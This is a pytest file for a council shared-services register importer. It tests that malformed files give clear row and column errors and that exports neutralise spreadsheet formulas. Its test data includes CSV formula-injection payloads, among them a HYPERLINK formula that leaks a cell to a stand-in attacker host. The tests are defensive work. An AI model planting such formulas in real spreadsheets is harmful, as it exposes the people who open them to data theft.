"""Hostile or broken register files are row/column errors, never tracebacks; exports meant for
spreadsheets neutralise formulas and still import again (``recommender.register.files``)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from recommender.core.config import Settings
from recommender.core.errors import ImportRejected
from recommender.core.sources import SIMULATOR_NOTE, SIMULATOR_SOURCE
from recommender.register.files import (
    MAX_SAVINGS_GBP,
    PROJECT_COLUMNS,
    Directory,
    csv_text,
    read_file,
    read_source,
    spreadsheet_cell,
    unguard,
    validate,
)
from recommender.register.records import export, import_file, query

SERVICES = ("procurement", "legal", "revenues_benefits", "other")
HEADER = ",".join(PROJECT_COLUMNS) + "\n"


def project_row(**values: str) -> str:
    row = {"name": "Legal", "service": "legal", "start_year": "2015", "status": "active",
           "savings_gbp": "1000", "savings_basis": "annual",
           "source": "https://www.rother.gov.uk/legal", "partners": "Rother; Hastings"}  # fmt: skip
    row |= values
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([row.get(c, "") for c in PROJECT_COLUMNS])
    return out.getvalue()


def rejected(path: Path) -> list[tuple[int, str, str]]:
    with pytest.raises(ImportRejected) as caught:
        read_source(path)
    assert str(path) in caught.value.detail
    return [(e.row, e.column, e.message) for e in caught.value.errors]


def write(tmp_path: Path, text: str, name: str = "in.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    return path


# CSV files ---------------------------------------------------------------------------------


def test_a_field_over_the_csv_limit_names_its_row_and_column(tmp_path: Path) -> None:
    path = write(tmp_path, HEADER + project_row() + project_row(note="x" * 200_000))
    [(row, column, message)] = rejected(path)
    assert (row, column) == (3, "note") and "200,000 characters" in message


def test_an_unclosed_quote_is_a_field_too_long_not_a_traceback(tmp_path: Path) -> None:
    text = HEADER + project_row() + 'x,"unclosed' + "\n" + project_row() * 20_000
    [(row, column, message)] = rejected(write(tmp_path, text))
    assert (row, column) == (3, "name") and "unclosed quote" in message


def test_nul_bytes_and_bad_bytes_name_their_row(tmp_path: Path) -> None:
    path = write(tmp_path, HEADER + project_row() + project_row(note="a\x00b"))
    assert rejected(path) == [(3, "note", "holds a NUL character")]
    latin = tmp_path / "latin.csv"
    latin.write_bytes((HEADER + project_row()).encode() + project_row(note="Café").encode("cp1252"))
    [(row, column, message)] = rejected(latin)
    assert (row, column) == (3, "note") and "not UTF-8" in message
    with pytest.raises(ImportRejected) as caught:
        read_source(latin)
    assert caught.value.errors[0].value.startswith("Caf")  # the cell, read as far as it goes


@pytest.mark.parametrize("line", [b"a\rb\xff", b"x\n\ra\xff,b", b"A\r,le\xffgal,x"])
def test_a_bad_byte_on_a_line_with_a_lone_carriage_return_is_named(
    tmp_path: Path, line: bytes
) -> None:
    """Placing a byte that is not UTF-8 read its line with the csv module, which refuses a
    lone carriage return: a traceback (a 500 from the admin import), found by the fuzz."""
    path = tmp_path / "cr.csv"
    path.write_bytes(line)
    [(row, _, message)] = rejected(path)
    assert row == line.count(b"\n") + 1 and "not UTF-8" in message


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("empty.csv", b"", "the file is empty"),
        ("blank.csv", b"\n  \n", "the file is empty"),
        ("semi.csv", HEADER.replace(",", ";").encode(), "save the file with commas"),
        ("book.xlsx", b"PK\x03\x04 a zip archive", "not a readable .xlsx workbook"),
        ("book.csv", b"\xd0\xcf\x11\xe0 an old workbook", "an .xls or .ods workbook"),
        ("book.ods", b"PK\x03\x04 an OpenDocument sheet", "save it as an Excel Workbook (.xlsx)"),
    ],
)
def test_a_file_that_is_not_a_register_says_what_it_is_in_one_line(
    tmp_path: Path, name: str, content: bytes, says: str
) -> None:
    """An empty file, one separated by semicolons, a broken .xlsx or an .xls or .ods workbook:
    one line saying what it is (they were fourteen "missing column" lines, or "not UTF-8
    text")."""
    path = tmp_path / name
    path.write_bytes(content)
    [(row, _, message)] = rejected(path)
    assert row == 1 and says in message


def test_values_echoed_back_are_cut(tmp_path: Path, directory: Directory) -> None:
    """A 130,000-character name came back whole in its error (and in the API's JSON)."""
    long = "x" * 130_000
    _, rows = read_source(write(tmp_path, HEADER + project_row(partners=f"Rother; {long}")))
    _, errors = validate(rows, directory, SERVICES)
    error = next(e for e in errors if e.column == "partners")
    assert len(str(error)) < 400 and "(130,000 characters)" in str(error)
    assert error.to_dict()["value"] == error.shown


def test_duplicate_columns_are_an_error_and_unknown_ones_a_warning(tmp_path: Path) -> None:
    twice = HEADER.replace("note,", "note,note,")
    path = write(tmp_path, twice + project_row().replace(",,false", ",,,false"))
    assert rejected(path) == [(1, "note", "this column appears 2 times; keep one")]
    extra = write(tmp_path, HEADER.strip() + ",partner_role,annual_savings_gbp,comments\n"
                  + project_row().strip() + ",lead; partner,1000,hello\n")  # fmt: skip
    found = read_file(extra)
    assert found.warnings == [
        "column 'partner_role' is not read and was ignored (did you mean 'partner_roles'?)",
        "column 'comments' is not read and was ignored (did you mean 'note'?)",
    ]


def test_more_values_than_columns_is_reported(tmp_path: Path) -> None:
    path = write(tmp_path, HEADER + project_row().strip() + ",surplus\n")
    message = "1 more value(s) than the header's 14 columns (after 'partners'); a value with a "
    assert rejected(path) == [(2, "", message + "comma needs double quotes")]


# JSON files --------------------------------------------------------------------------------

ITEM = {"name": "J", "service": "legal", "start_year": 2014, "savings_gbp": 1000,
        "savings_basis": "annual", "partners": ["Rother", "Hastings"]}  # fmt: skip


def test_json_that_python_cannot_read_is_rejected_cleanly(tmp_path: Path) -> None:
    deep = write(tmp_path, '{"arrangements": ' + "[" * 100_000 + "]" * 100_000 + "}", "d.json")
    assert rejected(deep) == [(1, "", "not JSON this importer reads: nested too deeply")]
    nested = json.dumps({"arrangements": [ITEM | {"note": [[["deep"]]], "name": {"a": 1}}]})
    assert sorted(rejected(write(tmp_path, nested, "n.json"))) == [
        (1, "name", "expected text, a number or a list of them"),
        (1, "note", "expected text, a number or a list of them"),
    ]


def test_lone_surrogates_and_nul_in_json_name_row_and_field(tmp_path: Path) -> None:
    items = [ITEM, ITEM | {"name": "bad \ud800"}, ITEM | {"note": "a\x00b"}, {"\udfff": "x"}]
    text = json.dumps({"arrangements": items})  # ASCII: the surrogates travel as \\ud800
    assert rejected(write(tmp_path, text, "s.json")) == [
        (2, "name", "holds a lone surrogate: not text"),
        (3, "note", "holds a NUL character"),
        (4, "field name", "holds a lone surrogate: not text"),
    ]


def test_repeated_keys_in_a_json_object_are_an_error(tmp_path: Path) -> None:
    text = '{"arrangements": [{"name": "A", "name": "B", "service": "legal"}]}'
    assert rejected(write(tmp_path, text, "r.json")) == [
        (1, "name", "this field appears twice in the object")
    ]


def test_huge_json_numbers_are_implausible_values(tmp_path: Path, directory: Directory) -> None:
    huge = "1" + "0" * 5000
    text = json.dumps({"arrangements": [ITEM, ITEM]})
    text = text.replace('"savings_gbp": 1000', f'"savings_gbp": {huge}', 1)
    text = text.replace('"start_year": 2014}', f'"start_year": {huge}}}', 1)
    text = text.replace('"start_year": 2014', f'"start_year": {huge}', 1)
    _, rows = read_source(write(tmp_path, text, "h.json"))
    _, errors = validate(rows, directory, SERVICES)
    assert [(e.row, e.column) for e in errors] == [(1, "start_year"), (1, "savings_gbp")]
    assert "at most £1,000,000,000" in errors[1].message


# Savings bound -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("figure", "reason"),
    [("1e308", "implausible"), ("1000000001", "implausible"), ("inf", "implausible"),
     ("nan", "not a figure"), ("-5", "negative"), ("£2,000,000,000", "implausible")],
)  # fmt: skip
def test_absurd_savings_are_refused_with_the_plausible_range(
    tmp_path: Path, directory: Directory, figure: str, reason: str
) -> None:
    _, rows = read_source(write(tmp_path, HEADER + project_row(savings_gbp=figure)))
    _, errors = validate(rows, directory, SERVICES)
    [error] = errors
    assert (error.row, error.column) == (2, "savings_gbp")
    expected = "expected a figure of 0 or more pounds, at most £1,000,000,000"
    assert error.message == f"{reason}: {expected}"


def test_the_bound_itself_is_accepted(tmp_path: Path, directory: Directory) -> None:
    path = write(tmp_path, HEADER + project_row(savings_gbp=str(MAX_SAVINGS_GBP)))
    candidates, errors = validate(read_source(path)[1], directory, SERVICES)
    assert errors == [] and candidates[0].savings_gbp == MAX_SAVINGS_GBP


# Spreadsheet-safe exports ------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tx",
            "\rx", "'=already quoted", "''-5"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_is_quoted_and_unquoted(text: str) -> None:
    guarded = spreadsheet_cell(text)
    assert guarded == "'" + text
    assert unguard(guarded) == text


@pytest.mark.parametrize("value", [-5.0, -5, "-5", "+3.5", "-1e3", "Rother", "a=b", "'quoted"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert spreadsheet_cell(value) == (value if isinstance(value, str) else f"{value:g}")
    assert unguard(spreadsheet_cell(value)) == spreadsheet_cell(value)


def test_csv_text_guards_only_for_spreadsheets() -> None:
    rows = [{"name": "=1+1", "figure": -250.0}]
    assert csv_text(rows, ["name", "figure"]) == "name,figure\n=1+1,-250\n"
    assert csv_text(rows, ["name", "figure"], spreadsheet=True) == "name,figure\n'=1+1,-250\n"


def test_an_export_with_formulas_imports_as_the_same_arrangements(
    register_settings: Settings, directory: Directory, tmp_path: Path
) -> None:
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    note = "@SUM(1+1) and -2+3"
    source = write(tmp_path, HEADER.strip() + ",partner_roles\n" + project_row(
        name=name, note=note, partners="Rother; Hastings; +Contractor Ltd").strip()
        + ",partner; partner; external\n")  # fmt: skip
    import_file(source, settings=register_settings, directory=directory)
    out = tmp_path / "export.csv"
    text = export("csv", out, settings=register_settings, directory=directory)
    exported = {r["name"]: r for r in csv.DictReader(io.StringIO(text))}
    row = exported["'" + name]
    assert row["note"] == "'" + note
    assert row["partners"].endswith("+Contractor Ltd")  # not at the start of the cell: kept
    assert not any(v.startswith(("=", "+", "-", "@")) for r in exported.values() for v in r.values()
                   if v and not v.lstrip("-").replace(".", "").isdigit())  # fmt: skip
    fresh = register_settings.with_(database_url=f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    report = import_file(out, settings=fresh, directory=directory)  # (the default loads too)
    assert report.rows == len(exported) and report.added + report.duplicates == report.rows
    assert report.warnings == []
    again = {r["name"]: r for r in query(settings=fresh, directory=directory)}
    assert again[name]["note"] == note
    assert [m["name_as_given"] for m in again[name]["members"]][-1] == "+Contractor Ltd"
    assert import_file(out, settings=register_settings, directory=directory).added == 0


def test_a_workbook_export_keeps_formulas_as_text_and_imports_as_the_same_arrangements(
    register_settings: Settings, directory: Directory, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    source = write(tmp_path, HEADER + project_row(name=name, note="@SUM(1+1)"))
    import_file(source, settings=register_settings, directory=directory)
    out = tmp_path / "export.xlsx"
    export("xlsx", out, settings=register_settings, directory=directory)
    sheet = load_workbook(out)["Arrangements"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value}
    assert cells[name].data_type == "s" and cells["@SUM(1+1)"].data_type == "s"  # never "f"
    assert not any(c.data_type == "f" for c in cells.values())
    fresh = register_settings.with_(database_url=f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    import_file(out, settings=fresh, directory=directory)
    again = {r["name"]: r for r in query(settings=fresh, directory=directory)}
    assert again[name]["note"] == "@SUM(1+1)"


def test_the_cli_reports_a_hostile_file_without_a_traceback(
    register_settings: Settings, tmp_path: Path
) -> None:
    from recommender.cli import cli

    path = write(tmp_path, HEADER + project_row(note="x" * 200_000))
    env = {"RECOMMENDER_DATA_DIR": str(register_settings.data),
           "RECOMMENDER_DATABASE_URL": register_settings.db_url}  # fmt: skip
    result = CliRunner().invoke(cli, ["register", "import", str(path)], env=env)
    assert result.exit_code == 2, result.output
    assert "row 2, column 'note'" in result.output and "Traceback" not in result.output


def test_an_unclosed_quote_is_named_where_it_opens(tmp_path: Path) -> None:
    """A quote opened in ``name`` and never closed read the next lines into it; the errors
    then blamed ``service`` and ``partners`` as empty."""
    text = HEADER + project_row(name='"A').replace('"""A"', '"A') + project_row(name="B")
    found = rejected(write(tmp_path, text))
    assert len(found) == 1
    row, column, message = found[0]
    assert (row, column) == (2, "name") and "opens a double quote that is never closed" in message


# Simulated rows ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "marks",
    [
        {"source": f"{SIMULATOR_SOURCE} seed=99, size=5)", "note": SIMULATOR_NOTE},  # column gone
        {"source": f"{SIMULATOR_SOURCE} seed=99, size=5)", "simulated": "false"},
        {"note": SIMULATOR_NOTE},
        {"id": "S-deadbeef", "simulated": "false"},
    ],
)
def test_a_simulated_row_not_marked_so_is_refused(
    tmp_path: Path, directory: Directory, marks: dict[str, str]
) -> None:
    """The simulator's rows with their simulated column deleted imported as real: Tameside's
    page then listed "Tameside and Manchester: shared children and education" as its own."""
    path = write(tmp_path, HEADER + project_row(**marks))
    [error] = validate(read_source(path)[1], directory, SERVICES)[1]
    assert (error.row, error.column) == (2, "simulated"), error
    assert "has the marks of a simulated arrangement" in error.message
    assert "never imported as a real one" in error.message


def test_marked_simulated_it_imports_and_a_real_id_it_may_not_take(
    tmp_path: Path, directory: Directory
) -> None:
    simulated = {"source": f"{SIMULATOR_SOURCE} seed=99, size=5)", "note": SIMULATOR_NOTE}
    path = write(tmp_path, HEADER + project_row(**simulated, simulated="true"))
    candidates, errors = validate(read_source(path)[1], directory, SERVICES)
    assert errors == [] and candidates[0].simulated
    path = write(tmp_path, HEADER + project_row(**simulated, simulated="true", id="R-1234abcd"))
    [error] = validate(read_source(path)[1], directory, SERVICES)[1]
    assert (error.column, error.value) == ("id", "R-1234abcd")


def test_a_partner_name_other_kinds_of_body_share_is_read_with_a_note(tmp_path: Path) -> None:
    """ "Durham" with no kind given was read as the council without a word, where the explorer
    says it also names the police force area."""
    from recommender.register.records import default_directory

    directory = default_directory(Settings.from_env())  # the real reference's names
    path = write(tmp_path, HEADER + project_row(partners="Durham; Darlington"))
    candidates, errors = validate(read_source(path)[1], directory, SERVICES)
    assert errors == []
    assert any("partner 'Durham' also names Durham police force area (E23000008): read as "
               "County Durham (E06000047)" in w for w in candidates[0].warnings)  # fmt: skip
    row = project_row(partners="Durham; Darlington").rstrip("\n")
    typed = write(tmp_path, HEADER.rstrip("\n") + ",partner_kinds\n" + row + ",council; council\n")
    candidates, _ = validate(read_source(typed)[1], directory, SERVICES)
    assert not any("also names" in w for w in candidates[0].warnings)


@pytest.mark.parametrize("text", [HEADER, HEADER + "\n\n", "[]"])
def test_a_file_with_no_arrangement_is_refused(
    tmp_path: Path, register_settings: Settings, directory: Directory, text: str
) -> None:
    """A header alone (or blank lines under it, or an empty JSON list) imported "0 row(s),
    would add 0 arrangement(s)" and exited 0, as if it had been read."""
    path = write(tmp_path, text, "in.json" if text == "[]" else "in.csv")
    with pytest.raises(ImportRejected) as caught:
        import_file(path, settings=register_settings, directory=directory, dry_run=True)
    [error] = caught.value.errors
    assert error.row == 2 and error.message.startswith("no arrangements: the file has")


def test_a_row_cut_short_is_said_so_not_as_a_bad_value(tmp_path: Path) -> None:
    """A row of 3 of 10 values read "column 'service_category', value '': unknown service id
    or label", of a value never given."""
    full = project_row().rstrip("\n")
    cut = ",".join(full.split(",")[:3])  # id, name, service: no partners
    errors = rejected(write(tmp_path, HEADER + full + "\n" + cut + "\n"))
    assert errors == [(3, "start_year", errors[0][2])], errors  # where it stops
    assert errors[0][2].startswith(
        f"the row has 3 of the header's {len(PROJECT_COLUMNS)} values, and stops after 'service'"
    )


def test_a_utf16_file_is_named_as_one(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes((HEADER + project_row()).encode("utf-16"))
    [(row, column, message)] = rejected(path)
    assert (row, column) == (1, "") and message.startswith("a UTF-16 file")


def test_a_bad_simulated_flag_is_one_error(tmp_path: Path, directory: Directory) -> None:
    """Read three times (the origin's check, the warning of no source, the row), "maybe" was
    said three times."""
    path = write(tmp_path, HEADER + project_row(simulated="maybe", source=""))
    errors = validate(read_source(path)[1], directory, SERVICES)[1]
    assert [(e.column, e.value, e.message) for e in errors] == [
        ("simulated", "maybe", "expected true or false")
    ]
